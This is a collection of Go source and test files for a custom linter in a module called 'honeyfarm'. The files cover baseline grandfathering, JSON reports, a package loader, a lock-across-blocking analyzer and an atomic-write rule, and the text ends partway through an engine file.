	Message string `json:"message"`
}

// Report is the -json document. Cache statistics are deliberately
// excluded (they go to stderr): the report must be byte-identical
// between a cold and a warm run over the same tree.
type Report struct {
	Schema    string          `json:"schema"`
	Packages  int             `json:"packages"`
	Baselined int             `json:"baselined"`
	Findings  []ReportFinding `json:"findings"`
}

// NewReport builds the report document from post-baseline findings.
func NewReport(findings []Finding, root string, packages, baselined int) *Report {
	r := &Report{
		Schema:    ReportSchema,
		Packages:  packages,
		Baselined: baselined,
		Findings:  []ReportFinding{}, // encode as [] rather than null
	}
	for _, f := range findings {
		r.Findings = append(r.Findings, ReportFinding{
			Rule:    f.Rule,
			File:    relPath(root, f.Pos.Filename),
			Line:    f.Pos.Line,
			Col:     f.Pos.Column,
			Message: f.Message,
		})
	}
	return r
}

// Write encodes the report as indented JSON with a trailing newline.
func (r *Report) Write(w io.Writer) error {
	data, err := json.MarshalIndent(r, "", "  ")
	if err != nil {
		return err
	}
	data = append(data, '\n')
	_, err = w.Write(data)
	return err
}
