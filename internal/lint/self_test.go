package lint

import "testing"

// TestSelfClean runs the full analyzer suite over this module and
// asserts zero findings — the repository must stay lint-clean. New
// violations either get fixed or carry an explicit, reasoned
// //lint:ignore directive.
func TestSelfClean(t *testing.T) {
	root, err := FindModuleRoot(".")
	if err != nil {
		t.Fatal(err)
	}
	pkgs, err := NewLoader(root).Load("./...")
	if err != nil {
		t.Fatal(err)
	}
	if len(pkgs) < 10 {
		t.Fatalf("loaded only %d packages; the module has far more — loader regression?", len(pkgs))
	}
	for _, pkg := range pkgs {
		for _, terr := range pkg.TypeErrors {
			t.Errorf("%s: type error: %v", pkg.Path, terr)
		}
	}
	for _, f := range Run(pkgs, All()) {
		t.Errorf("%s", f)
	}
}
