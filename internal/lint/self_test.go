package lint

import (
	"path/filepath"
	"testing"
)

// TestSelfClean runs the full analyzer suite over this module through
// the parallel engine and asserts zero findings beyond the checked-in
// baseline — the repository must stay lint-clean. New violations either
// get fixed, carry an explicit reasoned //lint:ignore directive, or (for
// deliberate contract exceptions like the WAL group commit) a reviewed
// lint.baseline.json entry.
func TestSelfClean(t *testing.T) {
	root, err := FindModuleRoot(".")
	if err != nil {
		t.Fatal(err)
	}
	res, err := NewLoader(root).Check(CheckOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Packages < 10 {
		t.Fatalf("analyzed only %d packages; the module has far more — loader regression?", res.Packages)
	}
	entries, err := LoadBaseline(filepath.Join(root, "lint.baseline.json"))
	if err != nil {
		t.Fatal(err)
	}
	kept, baselined, stale := ApplyBaseline(res.Findings, entries, root)
	for _, f := range kept {
		t.Errorf("%s", f)
	}
	if baselined == 0 {
		t.Errorf("baseline matched no findings; the WAL group-commit entries should be live")
	}
	for _, e := range stale {
		t.Errorf("stale baseline entry (%d unmatched): [%s] %s: %s", e.Count, e.Rule, e.File, e.Message)
	}
}

// TestSelfFacts spot-checks fact propagation over the real module: the
// WAL's batch append must carry durable-write and fsync facts, and the
// query engine's seal must carry a publish fact. These anchor the
// cross-package rules to the code they exist to protect.
func TestSelfFacts(t *testing.T) {
	root, err := FindModuleRoot(".")
	if err != nil {
		t.Fatal(err)
	}
	res, err := NewLoader(root).Check(CheckOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		key  string
		get  func(FuncFacts) string
		what string
	}{
		{"(*honeyfarm/internal/wal.Log).AppendTagged", func(f FuncFacts) string { return f.Durable }, "durable"},
		{"(*honeyfarm/internal/wal.Log).AppendTagged", func(f FuncFacts) string { return f.Fsync }, "fsync"},
		{"(*honeyfarm/internal/wal.Log).Close", func(f FuncFacts) string { return f.Fsync }, "fsync"},
	} {
		ff, ok := res.Facts.Lookup(tc.key)
		if !ok {
			t.Errorf("no facts recorded for %s", tc.key)
			continue
		}
		if tc.get(ff) == "" {
			t.Errorf("%s: missing %s fact (have %+v)", tc.key, tc.what, ff)
		}
	}
	// The engine seals snapshots through atomic.Pointer.Store.
	found := false
	for _, key := range res.Facts.sortedFactKeys() {
		ff, _ := res.Facts.Lookup(key)
		if ff.Publishes != "" && len(key) > 0 {
			found = true
			break
		}
	}
	if !found {
		t.Errorf("no function in the module carries a publish fact; the query engine seal should")
	}
}
