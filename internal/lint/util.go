package lint

import (
	"go/ast"
	"go/types"
)

// importedPkgPath resolves a selector base like `rand` in rand.Intn to
// the imported package path, or "" when the base is not a package name.
func importedPkgPath(info *types.Info, expr ast.Expr) string {
	id, ok := expr.(*ast.Ident)
	if !ok {
		return ""
	}
	pn, ok := info.Uses[id].(*types.PkgName)
	if !ok {
		return ""
	}
	return pn.Imported().Path()
}

// isErrorType reports whether t is the built-in error interface.
func isErrorType(t types.Type) bool {
	return t != nil && types.Identical(t, types.Universe.Lookup("error").Type())
}

// namedPathName returns the defining package path and name of a named
// type, dereferencing one pointer level; ok is false for unnamed types.
func namedPathName(t types.Type) (path, name string, ok bool) {
	if ptr, isPtr := t.(*types.Pointer); isPtr {
		t = ptr.Elem()
	}
	named, isNamed := t.(*types.Named)
	if !isNamed {
		return "", "", false
	}
	obj := named.Obj()
	if obj.Pkg() == nil {
		return "", obj.Name(), true
	}
	return obj.Pkg().Path(), obj.Name(), true
}

// syncLockTypes are the sync types whose values must never be copied
// after first use.
var syncLockTypes = map[string]bool{
	"Mutex": true, "RWMutex": true, "WaitGroup": true,
	"Once": true, "Cond": true, "Pool": true, "Map": true,
}

// containsLock reports whether a value of type t directly or transitively
// holds a sync lock by value (pointers, slices, maps and channels are
// references and do not propagate the property).
func containsLock(t types.Type) bool {
	return containsLockRec(t, map[types.Type]bool{})
}

func containsLockRec(t types.Type, seen map[types.Type]bool) bool {
	if t == nil || seen[t] {
		return false
	}
	seen[t] = true
	if named, ok := t.(*types.Named); ok {
		obj := named.Obj()
		if obj.Pkg() != nil && obj.Pkg().Path() == "sync" && syncLockTypes[obj.Name()] {
			return true
		}
		return containsLockRec(named.Underlying(), seen)
	}
	switch u := t.(type) {
	case *types.Struct:
		for i := 0; i < u.NumFields(); i++ {
			if containsLockRec(u.Field(i).Type(), seen) {
				return true
			}
		}
	case *types.Array:
		return containsLockRec(u.Elem(), seen)
	}
	return false
}
