package lint

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
)

// A baseline grandfathers known findings so check.sh can demand a
// zero-finding run while deliberate contract exceptions stay visible in
// a reviewed, checked-in file instead of scattered suppressions. Each
// entry matches on rule + module-relative file + exact message with an
// explicit count — line numbers are deliberately absent so unrelated
// edits to the file do not orphan the entry.

// BaselineEntry grandfathers up to Count findings of Rule in File whose
// message equals Message.
type BaselineEntry struct {
	Rule    string `json:"rule"`
	File    string `json:"file"` // module-relative, forward slashes
	Message string `json:"message"`
	Count   int    `json:"count"`
	// Why documents the contract exception; informational only.
	Why string `json:"why,omitempty"`
}

type baselineFile struct {
	Schema  string          `json:"schema"`
	Entries []BaselineEntry `json:"entries"`
}

const baselineSchema = "honeyfarm-lint-baseline-v1"

// LoadBaseline reads a baseline file.
func LoadBaseline(path string) ([]BaselineEntry, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	var bf baselineFile
	if err := json.Unmarshal(data, &bf); err != nil {
		return nil, fmt.Errorf("lint: parsing baseline %s: %v", path, err)
	}
	if bf.Schema != baselineSchema {
		return nil, fmt.Errorf("lint: baseline %s: schema %q, want %q", path, bf.Schema, baselineSchema)
	}
	return bf.Entries, nil
}

// ApplyBaseline filters out findings covered by the baseline. root
// anchors the module-relative paths entries use. It returns the
// surviving findings, how many were grandfathered, and the entries with
// unconsumed count — stale entries are reported so the baseline shrinks
// as debt is paid instead of silently masking future regressions.
func ApplyBaseline(findings []Finding, entries []BaselineEntry, root string) (kept []Finding, baselined int, stale []BaselineEntry) {
	type matchKey struct{ rule, file, message string }
	remaining := map[matchKey]int{}
	for _, e := range entries {
		remaining[matchKey{e.Rule, e.File, e.Message}] += e.Count
	}
	for _, f := range findings {
		k := matchKey{f.Rule, relPath(root, f.Pos.Filename), f.Message}
		if remaining[k] > 0 {
			remaining[k]--
			baselined++
			continue
		}
		kept = append(kept, f)
	}
	for _, e := range entries {
		k := matchKey{e.Rule, e.File, e.Message}
		if remaining[k] > 0 {
			stale = append(stale, BaselineEntry{Rule: e.Rule, File: e.File, Message: e.Message, Count: remaining[k]})
			remaining[k] = 0
		}
	}
	sort.Slice(stale, func(i, j int) bool {
		a, b := stale[i], stale[j]
		if a.File != b.File {
			return a.File < b.File
		}
		if a.Rule != b.Rule {
			return a.Rule < b.Rule
		}
		return a.Message < b.Message
	})
	return kept, baselined, stale
}

// relPath rewrites an absolute finding path as module-relative with
// forward slashes — the form baselines and JSON reports use so they are
// stable across checkouts.
func relPath(root, path string) string {
	if root == "" {
		return filepath.ToSlash(path)
	}
	rel, err := filepath.Rel(root, path)
	if err != nil {
		return filepath.ToSlash(path)
	}
	return filepath.ToSlash(rel)
}
