package lint

import (
	"go/ast"
	"go/token"
	"go/types"
	"sort"
	"strings"
)

// LockAcrossBlocking enforces the no-blocking-under-lock contract: a
// mutex held across an fsync, network I/O, or a channel send turns one
// slow disk or one unbuffered receiver into a stall of every other
// critical section — the farm supervisor and the serve drain path both
// depend on lock hold times being bounded by CPU work. Fsync reach is a
// propagated fact, so a helper that syncs three calls down still
// counts. The WAL's group-commit fsync is the deliberate exception
// (batching is the point) and is carried in lint.baseline.json rather
// than suppressed inline.
var LockAcrossBlocking = &Analyzer{
	Name: "lock-across-blocking",
	Doc:  "no mutex held across fsync, network I/O, or channel send",
	Run: func(p *Pass) {
		for _, file := range p.Pkg.Files {
			if p.Pkg.Generated[file] {
				continue
			}
			ast.Inspect(file, func(n ast.Node) bool {
				var body *ast.BlockStmt
				switch fn := n.(type) {
				case *ast.FuncDecl:
					body = fn.Body
				case *ast.FuncLit:
					body = fn.Body
				default:
					return true
				}
				if body != nil {
					w := &lockWalker{p: p}
					w.block(body.List, map[string]bool{})
				}
				return true
			})
		}
	},
}

type lockWalker struct {
	p *Pass
}

// block walks a statement list tracking which mutexes are held. Nested
// control-flow bodies get a copy of the held set, so an early-unlock
// branch cannot poison the statements after the branch.
func (w *lockWalker) block(list []ast.Stmt, held map[string]bool) {
	for _, s := range list {
		switch s := s.(type) {
		case *ast.ExprStmt:
			if name, op := w.lockOp(s.X); name != "" {
				switch op {
				case "Lock", "RLock":
					held[name] = true
				case "Unlock", "RUnlock":
					delete(held, name)
				}
				continue
			}
			w.checkBlocking(s, held)
		case *ast.DeferStmt:
			// defer mu.Unlock() keeps the lock held for the remaining
			// statements; the defer itself blocks nothing.
			if name, _ := w.lockOp(s.Call); name != "" {
				continue
			}
			w.checkBlocking(s, held)
		case *ast.BlockStmt:
			w.block(s.List, held)
		case *ast.IfStmt:
			if s.Init != nil {
				w.checkBlocking(s.Init, held)
			}
			w.checkBlockingExpr(s.Cond, held)
			w.block(s.Body.List, copyHeld(held))
			if s.Else != nil {
				w.block([]ast.Stmt{s.Else}, copyHeld(held))
			}
		case *ast.ForStmt:
			w.block(s.Body.List, copyHeld(held))
		case *ast.RangeStmt:
			w.checkBlockingExpr(s.X, held)
			w.block(s.Body.List, copyHeld(held))
		case *ast.SwitchStmt:
			for _, c := range s.Body.List {
				if cc, ok := c.(*ast.CaseClause); ok {
					w.block(cc.Body, copyHeld(held))
				}
			}
		case *ast.TypeSwitchStmt:
			for _, c := range s.Body.List {
				if cc, ok := c.(*ast.CaseClause); ok {
					w.block(cc.Body, copyHeld(held))
				}
			}
		case *ast.SelectStmt:
			// Waiting in a select with a mutex held is itself the hazard
			// (unless a default clause makes it a non-blocking try).
			w.checkBlocking(s, held)
		case *ast.LabeledStmt:
			w.block([]ast.Stmt{s.Stmt}, held)
		default:
			w.checkBlocking(s, held)
		}
	}
}

func copyHeld(held map[string]bool) map[string]bool {
	c := make(map[string]bool, len(held))
	for k, v := range held {
		c[k] = v
	}
	return c
}

// lockOp recognizes mu.Lock / mu.RLock / mu.Unlock / mu.RUnlock on a
// sync.Mutex or sync.RWMutex, returning the receiver expression text
// and the operation.
func (w *lockWalker) lockOp(e ast.Expr) (name, op string) {
	call, ok := ast.Unparen(e).(*ast.CallExpr)
	if !ok || len(call.Args) != 0 {
		return "", ""
	}
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok {
		return "", ""
	}
	switch sel.Sel.Name {
	case "Lock", "RLock", "Unlock", "RUnlock":
	default:
		return "", ""
	}
	t := w.p.Pkg.Info.Types[sel.X].Type
	if t == nil {
		return "", ""
	}
	if path, tname, ok := namedPathName(t); !ok || path != "sync" || (tname != "Mutex" && tname != "RWMutex") {
		return "", ""
	}
	return types.ExprString(sel.X), sel.Sel.Name
}

// checkBlocking scans a statement for blocking operations while any
// mutex is held. Function literals are pruned: code merely defined
// under the lock does not run under it (goroutines and stored
// callbacks), and literals that are invoked are walked as functions in
// their own right.
func (w *lockWalker) checkBlocking(s ast.Stmt, held map[string]bool) {
	if len(held) == 0 {
		return
	}
	ast.Inspect(s, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.FuncLit:
			return false
		case *ast.SendStmt:
			w.report(n.Pos(), held, "channel send")
		case *ast.SelectStmt:
			// A select carrying a default clause never blocks; holding a
			// lock across one is a deliberate try-send/try-receive.
			if !hasDefaultClause(n) {
				w.report(n.Pos(), held, "select wait")
			}
			return false
		case *ast.CallExpr:
			w.checkCall(n, held)
		}
		return true
	})
}

func (w *lockWalker) checkBlockingExpr(e ast.Expr, held map[string]bool) {
	if e == nil || len(held) == 0 {
		return
	}
	ast.Inspect(e, func(n ast.Node) bool {
		if _, ok := n.(*ast.FuncLit); ok {
			return false
		}
		if call, ok := n.(*ast.CallExpr); ok {
			w.checkCall(call, held)
		}
		return true
	})
}

// checkCall flags a call that can fsync (by fact) or perform network
// I/O while a lock is held.
func (w *lockWalker) checkCall(call *ast.CallExpr, held map[string]bool) {
	fn := calleeFunc(w.p.Pkg.Info, call.Fun)
	if fn == nil {
		return
	}
	switch fn.Name() {
	case "Lock", "RLock", "Unlock", "RUnlock":
		// Nested lock operations are the deadlock rule's business, and
		// conditional unlocks inside branches are handled by block().
		return
	}
	if facts := w.p.Facts.Of(fn); facts.Fsync != "" {
		// Source facts carry the raw funcKey; shorten it so direct calls
		// and propagated chains render provenance the same way.
		w.report(call.Pos(), held, "fsync ("+shortKey(facts.Fsync)+")")
		return
	}
	if pkg := fn.Pkg(); pkg != nil && pkg.Path() == "net" {
		sig, _ := fn.Type().(*types.Signature)
		name := fn.Name()
		// Close is exempt: severing a connection does not wait on the
		// peer, and teardown paths legitimately close under the
		// connection-registry lock.
		if name != "Close" && ((sig != nil && sig.Recv() != nil) ||
			strings.HasPrefix(name, "Dial") || strings.HasPrefix(name, "Listen") || strings.HasPrefix(name, "Lookup")) {
			w.report(call.Pos(), held, "network I/O ("+shortKey(funcKey(fn))+")")
		}
	}
}

// hasDefaultClause reports whether a select statement has a default
// clause (making it non-blocking).
func hasDefaultClause(s *ast.SelectStmt) bool {
	for _, c := range s.Body.List {
		if cc, ok := c.(*ast.CommClause); ok && cc.Comm == nil {
			return true
		}
	}
	return false
}

func (w *lockWalker) report(pos token.Pos, held map[string]bool, what string) {
	names := make([]string, 0, len(held))
	for name := range held {
		names = append(names, name)
	}
	sort.Strings(names)
	w.p.Reportf(pos, "%s held across %s; bound lock hold times to CPU work", strings.Join(names, ", "), what)
}
