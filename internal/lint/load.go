package lint

import (
	"bytes"
	"encoding/json"
	"fmt"
	"go/ast"
	"go/importer"
	"go/parser"
	"go/token"
	"go/types"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"sync"
)

// Package is one loaded, parsed and type-checked package ready for
// analysis.
type Package struct {
	Path  string // import path, e.g. "honeyfarm/internal/workload"
	Dir   string
	Fset  *token.FileSet
	Files []*ast.File
	Pkg   *types.Package
	Info  *types.Info
	// Generated marks files carrying the standard "Code generated ...
	// DO NOT EDIT." header; analyzers and directive scanning skip them.
	Generated map[*ast.File]bool
	// TypeErrors collects soft type-checking errors; analysis proceeds
	// on a best-effort basis when non-empty.
	TypeErrors []error
}

// Loader parses and type-checks packages of a single module using only
// the standard library: source files are parsed with go/parser and
// imports are resolved through compiler export data located via
// `go list -export` (the toolchain is a build-time dependency of any Go
// repository, so shelling out to it keeps the linter dependency-free).
type Loader struct {
	// Dir is the module root (the directory containing go.mod).
	Dir string

	mu      sync.Mutex
	exports map[string]string // import path -> export data file
	imp     types.Importer
	fset    *token.FileSet
}

// NewLoader returns a loader rooted at the module directory dir.
func NewLoader(dir string) *Loader {
	l := &Loader{Dir: dir, exports: map[string]string{}, fset: token.NewFileSet()}
	l.imp = importer.ForCompiler(l.fset, "gc", l.lookup)
	return l
}

// FindModuleRoot walks up from dir looking for go.mod.
func FindModuleRoot(dir string) (string, error) {
	dir, err := filepath.Abs(dir)
	if err != nil {
		return "", err
	}
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return dir, nil
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			return "", fmt.Errorf("lint: no go.mod found above %s", dir)
		}
		dir = parent
	}
}

// listedPackage is the subset of `go list -json` output the loader uses.
type listedPackage struct {
	ImportPath string
	Dir        string
	GoFiles    []string
	Imports    []string
	Standard   bool
	Export     string
	Module     *struct{ Path, Dir string }
	Error      *struct{ Err string }
}

// goList runs `go list -deps -export -json` for the patterns and decodes
// the package stream (dependencies before dependents — the topological
// order fact propagation relies on).
func (l *Loader) goList(patterns ...string) ([]*listedPackage, error) {
	args := append([]string{"list", "-deps", "-export", "-json"}, patterns...)
	cmd := exec.Command("go", args...)
	cmd.Dir = l.Dir
	var out, errb bytes.Buffer
	cmd.Stdout = &out
	cmd.Stderr = &errb
	if err := cmd.Run(); err != nil {
		return nil, fmt.Errorf("lint: go list: %v\n%s", err, errb.String())
	}
	var pkgs []*listedPackage
	dec := json.NewDecoder(&out)
	for {
		var p listedPackage
		if err := dec.Decode(&p); err == io.EOF {
			break
		} else if err != nil {
			return nil, fmt.Errorf("lint: decoding go list output: %v", err)
		}
		pkgs = append(pkgs, &p)
	}
	return pkgs, nil
}

// lookup feeds compiler export data to the gc importer.
func (l *Loader) lookup(path string) (io.ReadCloser, error) {
	l.mu.Lock()
	file, ok := l.exports[path]
	l.mu.Unlock()
	if !ok {
		// An import outside the already-listed dependency closure (fixture
		// packages trigger this): resolve it with a one-off go list.
		pkgs, err := l.goList(path)
		if err != nil {
			return nil, err
		}
		l.addExports(pkgs)
		l.mu.Lock()
		file, ok = l.exports[path]
		l.mu.Unlock()
		if !ok {
			return nil, fmt.Errorf("lint: no export data for %q", path)
		}
	}
	return os.Open(file)
}

func (l *Loader) addExports(pkgs []*listedPackage) {
	l.mu.Lock()
	defer l.mu.Unlock()
	for _, p := range pkgs {
		if p.Export != "" {
			l.exports[p.ImportPath] = p.Export
		}
	}
}

// Load parses and type-checks the module packages matched by patterns
// (e.g. "./..."), dependencies first. Test files are not loaded: the
// lint contracts target production code, and tests legitimately use
// wall-clock timeouts.
func (l *Loader) Load(patterns ...string) ([]*Package, error) {
	if len(patterns) == 0 {
		patterns = []string{"./..."}
	}
	listed, err := l.goList(patterns...)
	if err != nil {
		return nil, err
	}
	l.addExports(listed)

	var out []*Package
	for _, lp := range listed {
		// -deps lists the full closure; only analyze main-module packages.
		if !isModulePackage(lp) {
			continue
		}
		if lp.Error != nil {
			return nil, fmt.Errorf("lint: %s: %s", lp.ImportPath, lp.Error.Err)
		}
		pkg, err := l.check(lp, l.fset, l.imp)
		if err != nil {
			return nil, err
		}
		out = append(out, pkg)
	}
	return out, nil
}

// isModulePackage reports whether a listed package belongs to the main
// module (as opposed to the standard library or a dependency module).
func isModulePackage(lp *listedPackage) bool {
	return !lp.Standard && lp.Module != nil && lp.Dir != ""
}

// check parses and type-checks one listed package with the given file
// set and importer.
func (l *Loader) check(lp *listedPackage, fset *token.FileSet, imp types.Importer) (*Package, error) {
	var files []*ast.File
	for _, name := range lp.GoFiles {
		path := filepath.Join(lp.Dir, name)
		f, err := parser.ParseFile(fset, path, nil, parser.ParseComments)
		if err != nil {
			return nil, fmt.Errorf("lint: parsing %s: %v", path, err)
		}
		files = append(files, f)
	}
	return typeCheck(lp.ImportPath, lp.Dir, fset, imp, files)
}

// checkIsolated type-checks one listed package with its own file set
// and importer, so concurrent workers never share go/types state. The
// export-data index is shared through the loader's synchronized lookup.
func (l *Loader) checkIsolated(lp *listedPackage) (*Package, error) {
	fset := token.NewFileSet()
	return l.check(lp, fset, importer.ForCompiler(fset, "gc", l.lookup))
}

// CheckSource type-checks in-memory sources as a package with the given
// import path — the entry point fixture tests use. Imports resolve to
// real export data, so fixtures may import the standard library freely.
func (l *Loader) CheckSource(pkgPath string, sources map[string]string) (*Package, error) {
	var files []*ast.File
	for name, src := range sources {
		f, err := parser.ParseFile(l.fset, name, src, parser.ParseComments)
		if err != nil {
			return nil, fmt.Errorf("lint: parsing %s: %v", name, err)
		}
		files = append(files, f)
	}
	return typeCheck(pkgPath, "", l.fset, l.imp, files)
}

func typeCheck(pkgPath, dir string, fset *token.FileSet, imp types.Importer, files []*ast.File) (*Package, error) {
	pkg := &Package{
		Path:      pkgPath,
		Dir:       dir,
		Fset:      fset,
		Files:     files,
		Generated: map[*ast.File]bool{},
		Info: &types.Info{
			Types:      map[ast.Expr]types.TypeAndValue{},
			Uses:       map[*ast.Ident]types.Object{},
			Defs:       map[*ast.Ident]types.Object{},
			Selections: map[*ast.SelectorExpr]*types.Selection{},
			Implicits:  map[ast.Node]types.Object{},
		},
	}
	for _, f := range files {
		if ast.IsGenerated(f) {
			pkg.Generated[f] = true
		}
	}
	conf := types.Config{
		Importer: imp,
		Error:    func(err error) { pkg.TypeErrors = append(pkg.TypeErrors, err) },
	}
	tpkg, err := conf.Check(pkgPath, fset, files, pkg.Info)
	if err != nil && tpkg == nil {
		return nil, fmt.Errorf("lint: type-checking %s: %v", pkgPath, err)
	}
	pkg.Pkg = tpkg
	return pkg, nil
}
