package lint

import (
	"go/token"
	"testing"
)

func bf(rule, file string, line int, msg string) Finding {
	return Finding{Rule: rule, Pos: token.Position{Filename: "/mod/" + file, Line: line}, Message: msg}
}

// TestApplyBaseline covers the matching semantics: rule+file+message
// with an explicit count, line-number-free so entries survive unrelated
// edits, with over-budget findings kept and under-consumed entries
// reported stale.
func TestApplyBaseline(t *testing.T) {
	entries := []BaselineEntry{
		{Rule: "lock-across-blocking", File: "internal/wal/wal.go", Message: "held across fsync", Count: 2},
		{Rule: "atomicio-bypass", File: "cmd/gone/main.go", Message: "non-atomic write", Count: 1},
	}
	findings := []Finding{
		bf("lock-across-blocking", "internal/wal/wal.go", 10, "held across fsync"),
		bf("lock-across-blocking", "internal/wal/wal.go", 20, "held across fsync"),
		bf("lock-across-blocking", "internal/wal/wal.go", 30, "held across fsync"),     // over budget
		bf("lock-across-blocking", "internal/query/engine.go", 5, "held across fsync"), // other file
		bf("nondeterminism", "internal/wal/wal.go", 10, "held across fsync"),           // other rule
	}
	kept, baselined, stale := ApplyBaseline(findings, entries, "/mod")
	if baselined != 2 {
		t.Errorf("baselined = %d, want 2", baselined)
	}
	if len(kept) != 3 {
		t.Fatalf("kept = %v, want the over-budget, other-file and other-rule findings", kept)
	}
	if kept[0].Pos.Line != 30 {
		t.Errorf("the third same-message finding should survive (count exhausted), got line %d", kept[0].Pos.Line)
	}
	if len(stale) != 1 || stale[0].File != "cmd/gone/main.go" || stale[0].Count != 1 {
		t.Errorf("stale = %v, want the fully-unmatched cmd/gone entry", stale)
	}
}

// TestApplyBaselineLineDrift: the same finding moving to a different
// line still matches — that is the point of omitting line numbers.
func TestApplyBaselineLineDrift(t *testing.T) {
	entries := []BaselineEntry{
		{Rule: "r", File: "a/b.go", Message: "m", Count: 1},
	}
	kept, baselined, stale := ApplyBaseline([]Finding{bf("r", "a/b.go", 999, "m")}, entries, "/mod")
	if len(kept) != 0 || baselined != 1 || len(stale) != 0 {
		t.Errorf("kept=%v baselined=%d stale=%v, want clean match despite line drift", kept, baselined, stale)
	}
}
