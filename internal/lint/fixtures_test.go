package lint

import (
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
)

// fixtureDirs maps each testdata/src directory to the synthetic import
// path its sources are type-checked under. The path-restricted rules
// (nondeterminism, bounded-loop) activate only when the path carries a
// deterministic suffix, so those fixtures opt in through their path.
var fixtureDirs = map[string]string{
	"nondeterminism": "fixture/internal/workload",
	"goroutine":      "fixture/goroutine",
	"errdiscard":     "fixture/errdiscard",
	"mutexcopy":      "fixture/mutexcopy",
	"wiresym":        "fixture/wiresym",
	"boundedloop":    "fixture/internal/stats",
	"suppress":       "fixture/sup/internal/workload",
	"dettaint":       "fixture/dt/internal/report",
	"atomicbypass":   "fixture/ab/cmd/export",
	"timercommit":    "fixture/timercommit",
	"snapmut":        "fixture/snapmut",
	"lockblocking":   "fixture/lockblocking",
}

// fixtureExtraWant lists expected findings that cannot carry an inline
// "// want <rule>" marker — standalone malformed directives are whole
// comment lines, so their expectation lives here as "file:line:rule".
var fixtureExtraWant = map[string][]string{
	"suppress": {
		"malformed.go:8:directive",
		"malformed.go:12:directive",
		// stale.go: a stale suppression, an unknown rule name, and a
		// wildcard that suppresses nothing — each reported at its
		// directive comment.
		"stale.go:6:directive",
		"stale.go:13:directive",
		"stale.go:19:directive",
		// precedence.go: the line-above directive is shadowed by the
		// same-line one and reported stale.
		"precedence.go:9:directive",
	},
}

// TestFixtures runs the full analyzer suite over every golden fixture
// and requires the findings to match the "// want <rule>" markers
// exactly — no missing findings, no extras from any rule. Each fixture
// file is checked as its own single-file package (bad.go and good.go
// deliberately declare the same identifiers).
func TestFixtures(t *testing.T) {
	loader := NewLoader(mustModuleRoot(t))
	for dir, pkgPath := range fixtureDirs {
		t.Run(dir, func(t *testing.T) {
			sources, want := readFixture(t, dir)
			got := map[string]int{}
			for name, src := range sources {
				pkg, err := loader.CheckSource(pkgPath, map[string]string{name: src})
				if err != nil {
					t.Fatal(err)
				}
				if len(pkg.TypeErrors) > 0 {
					t.Fatalf("%s does not type-check: %v", name, pkg.TypeErrors)
				}
				for _, f := range Run([]*Package{pkg}, All()) {
					got[fmt.Sprintf("%s:%d:%s", f.Pos.Filename, f.Pos.Line, f.Rule)]++
				}
			}
			for _, key := range sortedKeys(want) {
				if got[key] < want[key] {
					t.Errorf("missing finding %s (want %d, got %d)", key, want[key], got[key])
				}
			}
			for _, key := range sortedKeys(got) {
				if got[key] > want[key] {
					t.Errorf("unexpected finding %s (want %d, got %d)", key, want[key], got[key])
				}
			}
		})
	}
}

func mustModuleRoot(t *testing.T) string {
	t.Helper()
	root, err := FindModuleRoot(".")
	if err != nil {
		t.Fatal(err)
	}
	return root
}

// readFixture loads every .go file of a fixture directory and collects
// its "// want <rule>" markers as "file:line:rule" expectations.
func readFixture(t *testing.T, dir string) (map[string]string, map[string]int) {
	t.Helper()
	full := filepath.Join("testdata", "src", dir)
	entries, err := os.ReadDir(full)
	if err != nil {
		t.Fatal(err)
	}
	sources := map[string]string{}
	want := map[string]int{}
	for _, e := range entries {
		if e.IsDir() || !strings.HasSuffix(e.Name(), ".go") {
			continue
		}
		data, err := os.ReadFile(filepath.Join(full, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		sources[e.Name()] = string(data)
		for i, line := range strings.Split(string(data), "\n") {
			idx := strings.Index(line, "// want ")
			if idx < 0 {
				continue
			}
			fields := strings.Fields(line[idx+len("// want "):])
			if len(fields) == 0 {
				t.Fatalf("%s:%d: // want marker without a rule", e.Name(), i+1)
			}
			want[fmt.Sprintf("%s:%d:%s", e.Name(), i+1, fields[0])]++
		}
	}
	for _, key := range fixtureExtraWant[dir] {
		want[key]++
	}
	return sources, want
}

func sortedKeys(m map[string]int) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}
