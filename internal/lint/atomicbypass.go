package lint

import (
	"go/ast"
	"strings"
)

// atomicioWriteNames are the os package entry points that replace or
// create a file non-atomically: a crash mid-call leaves a truncated or
// missing artifact for readers to trip over.
var atomicioWriteNames = map[string]bool{
	"Create": true, "Rename": true, "WriteFile": true,
}

// AtomicioBypass enforces the artifact-write contract: reports,
// datasets and address files are written only through internal/atomicio
// (tmp + fsync + rename), so a reader observes either the old file or
// the complete new one. The rule covers the packages that produce
// artifacts — the deterministic pipeline and every command — and
// exempts internal/atomicio itself (the rename lives there),
// internal/wal, whose segment files have their own recovery protocol
// (CRC-framed records, torn-tail truncation on open), and
// internal/iofault, whose os-backed FS is the passthrough the atomic
// write discipline is built on.
var AtomicioBypass = &Analyzer{
	Name: "atomicio-bypass",
	Doc:  "artifact files are written through internal/atomicio, not direct os.Create/os.Rename/os.WriteFile",
	Run: func(p *Pass) {
		path := p.Pkg.Path
		if pathHasSuffix(path, "internal/atomicio") || pathHasSuffix(path, "internal/wal") ||
			pathHasSuffix(path, "internal/iofault") {
			return
		}
		if !deterministicPkg(path) && !strings.Contains(path, "/cmd/") {
			return
		}
		inspect(p, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			sel, ok := call.Fun.(*ast.SelectorExpr)
			if !ok {
				return true
			}
			if importedPkgPath(p.Pkg.Info, sel.X) != "os" || !atomicioWriteNames[sel.Sel.Name] {
				return true
			}
			p.Reportf(call.Pos(), "os.%s writes the file non-atomically; route artifact writes through internal/atomicio so a crash never exposes a partial file", sel.Sel.Name)
			return true
		})
	},
}
