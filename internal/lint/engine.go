package lint

import (
	"fmt"
	"runtime"
	"sort"
	"sync"
)

// This file is the parallel, cached driver. Packages are scheduled as a
// dependency DAG (go list -deps order gives the edges), each analyzed
